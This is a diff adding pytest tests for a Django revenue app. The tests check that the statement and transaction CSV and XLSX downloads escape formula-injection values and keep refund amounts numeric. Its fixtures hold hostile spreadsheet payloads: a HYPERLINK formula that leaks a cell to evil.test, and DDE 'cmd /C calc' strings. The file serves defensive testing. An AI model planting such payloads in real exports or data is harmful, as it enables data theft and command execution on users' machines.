@@ -1,0 +1,125 @@
+"""Statement and transaction files never carry a live formula, and their amounts stay numbers:
+a partner's hostile display name and external ids come out inert in the portal's and the
+admin's downloads; a refund's negative amount is a number (XLSX: in the money format)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.urls import reverse
+
+from core.exports import MONEY_FORMAT
+from revenue import services
+from revenue.models import Statement
+from tests.factories import MembershipFactory, UserFactory
+
+from .factories import item, record
+
+pytestmark = pytest.mark.django_db
+
+NAME = '=HYPERLINK("https://evil.test/?leak="&A1,"Open")'
+EXTERNAL_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile(partner, agreement):
+    """Skyway renamed to a formula; January has a sale and a larger refund (negative lines)."""
+    partner.display_name = NAME
+    partner.save(update_fields=["display_name"])
+    record(
+        partner,
+        item(amount="100.00", external_id=EXTERNAL_ID),
+        item(amount="250.00", kind="refund", external_id="-2+3+cmd|' /C calc'!A0"),
+    )
+    services.settlement_start(through=date(2026, 1, 31), trigger="command")
+    return Statement.objects.get(partner=partner)
+
+
+@pytest.fixture
+def fiona(partner):
+    user = UserFactory(email="fiona@skyway.example")
+    MembershipFactory(user=user, partner=partner, role="finance")
+    return user
+
+
+def _csv(response) -> list[list[str]]:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+def _cells(rows) -> set[str]:
+    return {cell for row in rows for cell in row}
+
+
+@pytest.mark.parametrize("url", ["portal:statement-csv", "admin:revenue_statement_csv"])
+def test_the_statement_csv_quotes_the_partner_name_and_keeps_negative_amounts_numeric(
+    client, admin_user, fiona, hostile, url
+):
+    client.force_login(admin_user if url.startswith("admin") else fiona)
+
+    rows = _csv(client.get(reverse(url, args=[hostile.pk])))
+
+    assert rows[0][3] == "'" + NAME
+    assert NAME not in {cell for row in rows for cell in row}
+    refund = next(row for row in rows if row[2:3] == ["refund"])
+    assert refund[4:6] == ["-250.00", "-75.00"]  # numbers, no quote
+    assert ["Share", "-45.00"] in rows
+
+
+@pytest.mark.parametrize("url", ["portal:statement-xlsx", "admin:revenue_statement_xlsx"])
+def test_the_statement_xlsx_has_text_cells_for_names_and_money_cells_for_amounts(
+    client, admin_user, fiona, hostile, url
+):
+    client.force_login(admin_user if url.startswith("admin") else fiona)
+
+    response = client.get(reverse(url, args=[hostile.pk]))
+
+    assert response["Content-Disposition"].startswith("attachment;")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    assert (sheet["D1"].value, sheet["D1"].data_type) == ("'" + NAME, "s")
+    refund = next(row for row in sheet.iter_rows() if row[2].value == "refund")
+    gross, share = refund[4], refund[5]
+    assert (Decimal(str(gross.value)), gross.data_type, gross.number_format) == (
+        Decimal("-250"),
+        "n",
+        MONEY_FORMAT,
+    )
+    assert (Decimal(str(share.value)), share.data_type, share.number_format) == (
+        Decimal("-75"),
+        "n",
+        MONEY_FORMAT,
+    )
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_the_portal_transactions_csv_quotes_external_ids(client, fiona, hostile):
+    client.force_login(fiona)
+
+    rows = _csv(client.get(reverse("portal:transactions"), {"export": "csv"}))
+
+    assert {"'" + EXTERNAL_ID, "'-2+3+cmd|' /C calc'!A0"} <= _cells(rows)
+    assert EXTERNAL_ID not in _cells(rows)
+    amounts = [row[rows[0].index("amount")] for row in rows[1:]]
+    assert sorted(amounts) == ["100.00", "250.00"]
+
+
+def test_the_admin_transactions_exports_quote_external_ids(admin_client, hostile):
+    statement_rows = _csv(
+        admin_client.get(reverse("admin:revenue_statement_transactions", args=[hostile.pk]))
+    )
+    action = admin_client.post(
+        reverse("admin:revenue_transaction_changelist"),
+        {
+            "action": "export_csv",
+            "_selected_action": list(hostile.partner.transactions.values_list("pk", flat=True)),
+        },
+    )
+
+    for rows in (statement_rows, _csv(action)):
+        assert "'" + EXTERNAL_ID in _cells(rows)
+        assert EXTERNAL_ID not in _cells(rows)
